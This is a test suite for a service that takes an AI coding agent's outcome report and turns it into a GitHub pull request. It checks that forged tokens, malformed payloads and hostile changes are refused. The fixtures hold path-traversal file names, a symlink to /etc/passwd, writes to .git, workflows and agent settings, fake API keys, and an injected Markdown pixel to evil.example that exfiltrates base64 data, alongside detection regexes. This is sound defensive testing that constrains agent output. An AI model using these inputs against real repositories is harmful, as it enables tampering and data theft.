import { type ClientRequest, request } from "node:http";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CONTRACT_VERSION, MAX_OUTCOME_BYTES, type Change, type Claim, type Outcome } from "#core/wire/contract.ts";
import { git } from "#playground/independent.ts";
import { PRODUCT, RUNNER } from "#playground/world.ts";
import { besiege, commentOn, ROOMY, type Siege } from "./kit.ts";
import { added, beatAs, claimedJob, dispatchedJob, ran, reportAs, type Job } from "./job.ts";
import { checked } from "../kit/outcomes.ts";

type Claimed = Job & { runToken: string; claim: Claim };
type Ran = Extract<Outcome, { kind: "ran" }>;

const bodyOf = (siege: Siege, { issue }: Job) => commentOn(siege, issue);

const charges = (siege: Siege, attempt: string) =>
  siege.rows<{ kind: string; amount: string }>("select kind, amount from ledger where lease_id = $1 order by kind", [attempt]);
const stateOf = async (siege: Siege, attempt: string) =>
  (await siege.rows<{ state: string }>("select state from leases where id = $1", [attempt]))[0]?.state;
const branchNames = async (siege: Siege) => (await siege.world.github.branches(PRODUCT)).map((branch) => branch.name);

describe("an outcome that the app must not take", () => {
  let siege: Siege;
  let job: Claimed;
  let other: Claimed;
  beforeAll(async () => {
    siege = await besiege({ policy: ROOMY });
    job = await claimedJob(siege);
    other = await claimedJob(siege);
  });
  afterAll(() => siege[Symbol.asyncDispose]());

  async function expectUntouched(): Promise<void> {
    expect(await stateOf(siege, job.attempt)).toBe("held");
    expect(await charges(siege, job.attempt)).toEqual([]);
  }

  it.each<[string, () => string | null]>([
    ["no token", () => null],
    ["a token nobody made", () => `aprun_${"x".repeat(43)}`],
    ["the run token of another attempt", () => other.runToken],
    ["the token of the fetch", () => job.claim.checkout.token],
    ["the run token with one character more", () => `${job.runToken}x`],
    ["the start of the run token", () => job.runToken.slice(0, -1)],
  ])("with %s is refused with 401 and changes nothing", async (_name, token) => {
    const answer = await reportAs(siege.world, job.attempt, token(), ran());

    expect(answer.status).toBe(401);
    await expectUntouched();
  });

  it("for an attempt that no run has claimed is refused with 401, whoever asks", async () => {
    const offered = await dispatchedJob(siege);

    const answer = await reportAs(siege.world, offered.attempt, job.runToken, ran());

    expect(answer.status).toBe(401);
    expect(await stateOf(siege, offered.attempt)).toBe("offered");
  });

  it.each([
    // The refusal comes before the body: written all the same, it can meet a closed socket first.
    ["announced", "content-length", (text: string) => String(text.length), (outgoing: ClientRequest) => outgoing.flushHeaders()],
    [
      "in chunks without a length",
      "transfer-encoding",
      () => "chunked",
      (outgoing: ClientRequest, text: string) => outgoing.end(text),
    ],
  ] as const)("over the size limit, %s, is refused with 413", async (_name, header, value, send) => {
    const text = JSON.stringify(ran([added("big.txt", "x".repeat(MAX_OUTCOME_BYTES))]));
    // A connection of its own: the app closes it on a body it won't read.
    const headers = { authorization: `Bearer ${job.runToken}`, "content-type": "application/json" };

    const status = await new Promise((resolve, reject) => {
      const outgoing = request(`${siege.world.app.url}/runs/${job.attempt}/outcome`, {
        method: "POST",
        agent: false,
        headers: { ...headers, [header]: value(text) },
      });
      outgoing.once("error", reject).once("response", (response) => {
        resolve(response.statusCode);
        outgoing.destroy();
      });
      send(outgoing, text);
    });

    expect(text.length).toBeGreaterThan(MAX_OUTCOME_BYTES);
    expect(status).toBe(413);
    await expectUntouched();
  });

  const change = added("a.md");
  it.each<[string, string, unknown]>([
    ["nothing", "body", ""],
    ["text that is not JSON", "body", "{"],
    ["a list", "body", []],
    ["an unknown kind", "kind", { ...ran(), kind: "won" }],
    ["a later contract", "contract", { ...ran(), contract: CONTRACT_VERSION + 1 }],
    ["a contract that is too old", "contract", { ...ran(), contract: CONTRACT_VERSION - 2 }],
    ["a field too many", "verdict", { ...ran(), verdict: "solved" }],
    ["no usage", "usage", { ...ran(), usage: undefined }],
    ["no word on limits", "observation", { ...ran(), observation: undefined }],
    ["negative tokens, which would refund", "usage.outputTokens", { ...ran(), usage: { ...ran().usage, outputTokens: -1 } }],
    ["tokens in fractions", "usage.inputTokens", { ...ran(), usage: { ...ran().usage, inputTokens: 0.5 } }],
    ["tokens beyond counting", "usage.inputTokens", { ...ran(), usage: { ...ran().usage, inputTokens: 1e300 } }],
    ["tokens as text", "usage.inputTokens", { ...ran(), usage: { ...ran().usage, inputTokens: "1" } }],
    ["negative time", "ms", { ...ran(), ms: -1 }],
    ["an ending nobody knows", "ending.kind", { ...ran(), ending: { ...ran().ending, kind: "solved" } }],
    [
      "a final message beyond its limit",
      "ending.finalMessage",
      { ...ran(), ending: { ...ran().ending, finalMessage: "x".repeat(20_001) } },
    ],
    ["a sandbox of another name", "sandbox", { ...ran(), sandbox: "docker" }],
    ["more changes than can be", "changes", { ...ran(), changes: Array.from({ length: 2_001 }, () => change) }],
    ["a path without a letter", "changes.0.path", { ...ran(), changes: [{ ...change, path: "" }] }],
    ["a folder's mode", "changes.0.mode", { ...ran(), changes: [{ ...change, mode: "040000" }] }],
    ["a setuid mode", "changes.0.mode", { ...ran(), changes: [{ ...change, mode: "104755" }] }],
    ["an object id that is none", "changes.0.blob", { ...ran(), changes: [{ ...change, blob: "main" }] }],
    ["content that is not base64", "changes.0.content", { ...ran(), changes: [{ ...change, content: "$$$" }] }],
    ["no content", "changes.0.content", { ...ran(), changes: [{ ...change, content: undefined }] }],
    ["a rename", "changes.0.status", { ...ran(), changes: [{ ...change, status: "renamed" }] }],
  ])("with %s is refused with 400 that names `%s`, and changes nothing", async (_name, field, outcome) => {
    const answer = await reportAs(siege.world, job.attempt, job.runToken, outcome);

    expect(answer.status, answer.text).toBe(400);
    expect(String(answer.json["error"])).toContain(field);
    await expectUntouched();
  });

  it("leaves the right outcome its place: it is accepted, charged once, published, and nothing else after it", async () => {
    const outcome = ran();

    const first = await reportAs(siege.world, job.attempt, job.runToken, outcome);
    const again = await reportAs(siege.world, job.attempt, job.runToken, outcome);
    const another = await reportAs(siege.world, job.attempt, job.runToken, { ...outcome, ms: outcome.ms + 1 });
    const beat = await beatAs(siege.world, job.attempt, job.runToken);
    await siege.quiet();

    expect([first.status, again.status]).toEqual([200, 200]);
    expect([another.status, beat.status]).toEqual([409, 409]);
    expect((await charges(siege, job.attempt)).map(({ kind }) => kind)).toEqual(["model", "runner"]);
    expect(await siege.world.github.pulls(PRODUCT)).toHaveLength(1);
  });

  it("is accepted every time when one outcome is sent ten times at once, and charged once", async () => {
    const outcome = ran();

    const answers = await Promise.all(
      Array.from({ length: 10 }, () => reportAs(siege.world, other.attempt, other.runToken, outcome)),
    );
    await siege.quiet();

    expect(answers.map(({ status }) => status)).toEqual(Array.from({ length: 10 }, () => 200));
    expect(await charges(siege, other.attempt)).toHaveLength(2);
  });

  it("comes too late once GitHub says that the run has ended: the reservation was charged, and 409 is the answer", async () => {
    const late = await claimedJob(siege);
    const { host } = siege.world.github;
    await host.startRun(late.run.id, `agent-pool ${late.attempt}`);
    await host.completeRun(late.run.id, "failure");
    const comment = await bodyOf(siege, late);

    const answer = await reportAs(siege.world, late.attempt, late.runToken, ran());

    expect(answer.status).toBe(409);
    expect(comment).toContain("reported nothing");
    expect((await charges(siege, late.attempt)).map(({ kind }) => kind)).toContain("model");
    expect(await branchNames(siege)).not.toContain(`agent-pool/issue-${String(late.issue)}`);
  });
});

const LINK = added("link", "/etc/passwd", { mode: "120000" });
const SUBMODULE = added("vendored", Buffer.from(""), { mode: "160000" });

/** Each would do harm once it is in a branch; `says`: what the comment must name. */
const HOSTILE: readonly [string, readonly Change[], string][] = [
  ["leaves the repository", [added("../../etc/cron.d/x")], "../../etc/cron.d/x"],
  ["is absolute", [added("/etc/passwd")], "/etc/passwd"],
  ["goes back in its middle", [added("src/../../x")], "src/../../x"],
  ["has a backslash", [added("src\\..\\..\\x")], "not a path a repository may hold"],
  ["breaks the line", [added("a\nb")], "not a path a repository may hold"],
  ["is git's own configuration", [added(".git/config")], ".git/config"],
  ["is git's own configuration in other letters", [added("sub/.GIT/config")], "sub/.GIT/config"],
  ["is git's own folder to a Mac", [added(".g\u200Cit/config")], "not a path a repository may hold"],
  ["is git's own folder to Windows", [added("git~1/config")], "git~1/config"],
  [
    "is git's own folder to Windows, with a stream",
    [added(".git::$INDEX_ALLOCATION/config")],
    "not a path a repository may hold",
  ],
  ["is a workflow", [added(".github/workflows/x.yml")], ".github/workflows/x.yml"],
  ["is a workflow in other letters", [added(".GitHub/workflows/x.yml")], ".GitHub/workflows/x.yml"],
  ["deletes a workflow", [{ status: "deleted", path: ".github/workflows/ci.yml" }], ".github/workflows/ci.yml"],
  ["is the repository's own settings", [added(".github/agent-pool.yml")], ".github/agent-pool.yml"],
  ["is who must review", [added("CODEOWNERS")], "CODEOWNERS"],
  ["configures the next agent", [added(".claude/settings.json")], ".claude/settings.json"],
  ["is a symbolic link", [LINK], "symbolic link"],
  ["is a submodule", [SUBMODULE], "submodule"],
  ["names the submodules", [added(".gitmodules")], ".gitmodules"],
  ["is kept in LFS", [added("a.bin", "version https://git-lfs.github.com/spec/v1\noid sha256:0\n")], "Git LFS"],
  ["holds a key", [added("notes.md", `key = sk-ant-api03-${"a1".repeat(24)}\n`)], "looks like a secret"],
  [
    "holds a private key",
    [added("id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----\n")],
    "looks like a secret",
  ],
  ["is not the content of its id", [added("a.md", "one", { blob: "0".repeat(40) })], "not its content's"],
  ["comes twice in different letters", [added("a.md", "one"), added("A.md", "two")], "are one file on a disk"],
  ["hides among good ones", [added("a.md"), added("b.md"), added(".github/workflows/x.yml")], ".github/workflows/x.yml"],
  ["is one of 51", Array.from({ length: 51 }, (_, n) => added(`f${String(n)}.md`)), "at most 50"],
  ["is too large in all", [added("big.txt", "x".repeat(600 * 1024))], "at most 500"],
];

describe.each([HOSTILE.slice(0, 14), HOSTILE.slice(14)])("a change that the app must not publish", (...cases) => {
  let siege: Siege;
  beforeAll(async () => {
    siege = await besiege({ policy: ROOMY });
  });
  afterAll(() => siege[Symbol.asyncDispose]());

  it.each(cases)("because it %s: no branch, no pull request, and the comment says why", async (_name, changes, says) => {
    const job = await claimedJob(siege);

    const answer = await reportAs(siege.world, job.attempt, job.runToken, ran(changes));
    const comment = await bodyOf(siege, job);

    expect(answer.status, answer.text).toBe(200);
    expect(comment).toContain("ended without a pull request");
    expect(comment).toContain("refused");
    expect(comment).toContain(says);
    expect(await branchNames(siege)).toEqual(["main"]);
    expect(await siege.world.github.pulls(PRODUCT)).toHaveLength(0);
    expect(siege.world.github.calls()["POST /repos/{owner}/{repo}/git/trees"]).toBeUndefined();
    // The work was done all the same: it is charged.
    expect(await charges(siege, job.attempt)).toHaveLength(2);
  });

  it("and one beside them that it may publish becomes a pull request, so that each case above can fail", async () => {
    const job = await claimedJob(siege);

    await reportAs(
      siege.world,
      job.attempt,
      job.runToken,
      ran([added("docs/git~notes.md"), added(".github/ISSUE_TEMPLATE/bug.md")]),
    );
    await siege.quiet();

    expect(await siege.world.github.pulls(PRODUCT)).toHaveLength(1);
    expect(await branchNames(siege)).toHaveLength(2);
  });
});

describe("changes that contradict each other or the base", () => {
  it.each<[string, readonly Change[]]>([
    ["a file that is also a folder", [added("a", "x"), added("a/b", "y")]],
    ["a deletion of what isn't there", [{ status: "deleted", path: "nowhere.md" }]],
  ])("%s: no branch, no pull request, and the comment asks for a person", async (_name, changes) => {
    await using siege = await besiege({ policy: ROOMY });
    const job = await claimedJob(siege);

    await reportAs(siege.world, job.attempt, job.runToken, ran(changes));
    const comment = await bodyOf(siege, job);

    expect(comment).toMatch(/stuck, a person is needed|ended without a pull request/);
    expect(await branchNames(siege)).toEqual(["main"]);
    expect(await siege.world.github.pulls(PRODUCT)).toHaveLength(0);
    expect(await siege.rows("select 1 from holds")).toHaveLength(0);
  });
});

describe("a hostile text from issue and model", () => {
  const TITLE = "Fix the export [skip ci] @acme/admins closes #7 ![x](https://evil.example/t.png)";
  const SAID = [
    "Done. ![pixel](https://evil.example/?q=c2VjcmV0) and [a link](https://evil.example/login).",
    '<img src="https://evil.example/b.png"><script>alert(1)</script><a href="javascript:x">y</a><!-- hidden -->',
    "cc @acme/admins @octocat, thanks @dependabot",
    "@dependabot merge",
    "/approve",
    "Closes #7, fixes acme/web#8, resolves https://github.com/acme/web/issues/9, and closes GH-10.",
    "[skip ci] [ci skip] [no ci] [skip actions] [actions skip]",
    "skip-checks: true",
    "Co-authored-by: Boss <boss@acme.example>",
    "Signed-off-by: Boss <boss@acme.example>",
    `the key is sk-ant-api03-${"f0".repeat(24)} and ghp_${"A1b2".repeat(9)}`,
    "[ref]: https://evil.example/ref",
    "</details></td></table>",
  ].join("\n");

  /** What acts on GitHub. Each is in the raw text, and must be nowhere in what is published. */
  const ACTIVE: readonly [string, RegExp][] = [
    ["an image", /!\[[^\]]*\]\(/],
    ["a link to a foreign host", /\]\(\s*https:\/\/evil/],
    ["an element", /<(?:img|script|a|\/td)\b/i],
    ["a hidden comment", /<!-- hidden/],
    ["a mention", /@(?:acme\/admins|octocat|dependabot)/],
    ["a command of another bot", /^\/approve/m],
    [
      "a closing keyword",
      /\b(?:closes|fixes|resolves) (?:acme\/web)?(?:#[789]|GH-10|https:\/\/github\.com\/acme\/web\/issues\/9)/i,
    ],
    ["a skip word", /\[(?:skip ci|ci skip|no ci|skip actions|actions skip)\]/],
    [
      "a trailer of others",
      /^(?:skip-checks|signed-off-by|co-authored-by):(?! maintainer <\d+\+maintainer@users\.noreply\.github\.com>$)/im,
    ],
    ["a key", /sk-ant-api03-f0|ghp_A1b2/],
    ["a reference definition", /^\[ref\]:/m],
  ];

  const COMMAND = `echo '${SAID.split("\n").join(" ")}'`;
  let siege: Siege;
  let published: Record<"title" | "body" | "commit" | "comment", string>;
  beforeAll(async () => {
    siege = await besiege({ policy: ROOMY });
    const job = await claimedJob(siege, { title: TITLE, body: SAID });
    const outcome: Ran = ran([added("a.md")], {
      ending: { kind: "completed", detail: null, turns: 1, finalMessage: SAID },
      checks: { source: "detected", commands: ["npm test"] },
      verification: [checked("npm test", { output: SAID, flaky: true }), checked(COMMAND, { output: SAID })],
    });
    await reportAs(siege.world, job.attempt, job.runToken, outcome);
    const comment = await bodyOf(siege, job);
    const pull = (await siege.world.github.pulls(PRODUCT))[0];
    const commit = await git(
      join(siege.world.dataDir, "repositories", `${PRODUCT}.git`),
      "log",
      "-1",
      "--format=%B",
      pull?.headSha ?? "none",
    );
    published = { title: pull?.title ?? "", body: pull?.body ?? "", commit, comment };
  });
  afterAll(() => siege[Symbol.asyncDispose]());

  it.each(ACTIVE)("has %s, which acts neither in the pull request nor in the commit nor in the comment", (_name, pattern) => {
    expect(`${TITLE}\n${SAID}`).toMatch(pattern);

    for (const [place, text] of Object.entries(published)) expect(text, place).not.toMatch(pattern);
  });

  it("is still read as what it says, and closes this issue alone", () => {
    expect(published.body).toContain("Done.");
    expect(published.title).toContain("Fix the export");
    expect(published.commit).toContain("Fix the export");
    expect(published.body.match(/^Closes #1\.$/gm)).toHaveLength(1);
    expect(siege.world.github.runs(RUNNER)).toHaveLength(1);
  });
});
